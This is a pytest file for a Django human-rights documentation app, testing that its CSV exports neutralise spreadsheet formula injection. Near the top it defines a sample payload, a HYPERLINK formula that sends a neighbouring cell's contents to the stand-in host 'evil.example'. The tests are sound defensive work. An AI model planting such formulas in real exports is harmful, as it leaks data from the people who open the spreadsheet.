"""Spreadsheet (CSV formula) injection: every CSV export neutralises formula starts (issue 11).

Each export is fetched with a value typed by an attacker as a formula; the CSV must carry it with
a leading single quote (OWASP), and the JSON export must keep it as typed.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from mizan.cases import services as cases
from mizan.core.exports import FORMULA_STARTS, csv_writer, spreadsheet_safe
from mizan.core.partial_dates import PartialDate
from mizan.core.sensitivity import Sensitivity
from tests.conftest import signed_in

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'
NEUTRAL = "'" + FORMULA


def _table(body: bytes | str) -> list[list[str]]:
    text = body.decode("utf-8-sig") if isinstance(body, bytes) else body.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def _cells(body: bytes | str) -> set[str]:
    return {cell for row in _table(body) for cell in row}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_each_formula_start_gets_a_quote(start: str) -> None:
    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"


def test_other_values_are_kept_as_they_are() -> None:
    for value in ("أحمد", "Ahmad", "", "a=b", " =1", "'quoted"):
        assert spreadsheet_safe(value) == value
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None


@given(st.text())
def test_the_value_is_kept_behind_the_quote(value: str) -> None:
    safe = spreadsheet_safe(value)
    if value.startswith(FORMULA_STARTS):
        assert safe == "'" + value
    else:
        assert safe == value
    line = csv_writer().writerow([value])
    assert next(csv.reader(io.StringIO(line)))[0] == safe


@pytest.fixture
def poisoned_incident(db: Any, team_a: Any) -> Any:
    unit = cases.organisation_create(
        actor=None, data={"name_en": FORMULA, "name_ar": FORMULA, "sensitivity": 1}
    )
    return cases.incident_record(
        actor=None,
        incident={
            "title_en": FORMULA,
            "title_ar": "-2+3",
            "sensitivity": Sensitivity.INTERNAL,
            "start_date": PartialDate(2014, 2),
        },
        victims=[
            cases.VictimAct(
                act_type="torture",
                new_person={
                    "first_name_ar": "سامر",
                    "first_name_lat": "@SUM(1+1)",
                    "family_name_lat": "x",
                    "pseudonym": "+cmd",
                    "sensitivity": Sensitivity.INTERNAL,
                },
            )
        ],
        perpetrators=[cases.Perpetrator(degree="ordered", unit=unit)],
        sources=[],
    )


@pytest.mark.django_db
def test_case_exports_neutralise_formulas_in_csv_and_keep_json_raw(
    documenter_a: Any, poisoned_incident: Any
) -> None:
    client = signed_in(documenter_a)

    def fetch(kind: str, fmt: str) -> bytes:
        response = client.get(reverse("cases:export", args=[kind, fmt]))
        assert response.status_code == 200
        return b"".join(response.streaming_content)

    incidents = _cells(fetch("incidents", "csv"))
    assert NEUTRAL in incidents and FORMULA not in incidents and "'-2+3" in incidents
    acts = _cells(fetch("acts", "csv"))
    assert NEUTRAL in acts and FORMULA not in acts  # perpetrator unit names
    persons = _cells(fetch("persons", "csv"))
    assert "'+cmd" in persons and not any(c.startswith(("@", "+")) for c in persons)
    raw = json.loads(fetch("incidents", "json"))
    assert raw[0]["title_en"] == FORMULA and raw[0]["title_ar"] == "-2+3"
    assert json.loads(fetch("persons", "json"))[0]["pseudonym"] == "+cmd"


@pytest.mark.django_db
def test_statistics_csv_neutralises_unit_names(documenter_a: Any, poisoned_incident: Any) -> None:
    body = signed_in(documenter_a).get(reverse("cases:statistics") + "?csv=unit").content
    cells = _cells(body)
    assert NEUTRAL in cells and FORMULA not in cells


@pytest.mark.django_db
def test_audit_csv_neutralises_a_formula_username(make_user: Any, administrator: Any) -> None:
    # Django's username rules allow @ + - at the start.
    from mizan.core.audit import Action, audit_record

    attacker = make_user("@-2+3", "viewer")
    audit_record(actor=attacker, action=Action.VIEW, target=attacker)
    response = signed_in(administrator).get(reverse("core:audit_export"))
    cells = _cells(b"".join(response.streaming_content))
    assert "'@-2+3" in cells and "@-2+3" not in cells


@pytest.mark.django_db
def test_missing_overview_csv_neutralises_list_names(make_user: Any, tmp_path: Path) -> None:
    from mizan.core.models import Team
    from mizan.missing import services as missing
    from mizan.missing.models import SourceList

    team = Team.objects.create(slug="reg", name_en="Registry", name_ar="السجل")
    officer = make_user("mona_officer", "missing_persons_officer", (team,))
    path = tmp_path / "list.csv"
    path.write_text("record_id,full_name\n1,محمد الشامي\n", encoding="utf-8")
    source = missing.source_list_create(
        actor=officer, data={"name": FORMULA, "origin": SourceList.Origin.FAMILIES}
    )
    missing.source_list_import(actor=officer, source_list=source, path=path)
    body = signed_in(officer).get(reverse("missing:overview"), {"csv": "overlap"}).content
    cells = _cells(body)
    assert NEUTRAL in cells and FORMULA not in cells


def test_mizan_link_output_neutralises_record_ids(tmp_path: Path) -> None:
    from mizan.linkage.lists import SourceRecord, write_clusters

    records = [
        SourceRecord("families", "=1+1", 2, ("full_name",), ("محمد الشامي",)),
        SourceRecord("families", "F-2", 3, ("full_name",), ("أحمد الحلبي",)),
    ]
    out = tmp_path / "clusters.csv"
    write_clusters(out, records, [1, 2])
    table = _table(out.read_text(encoding="utf-8"))
    assert table[1][1] == "'=1+1" and table[2][1] == "F-2"
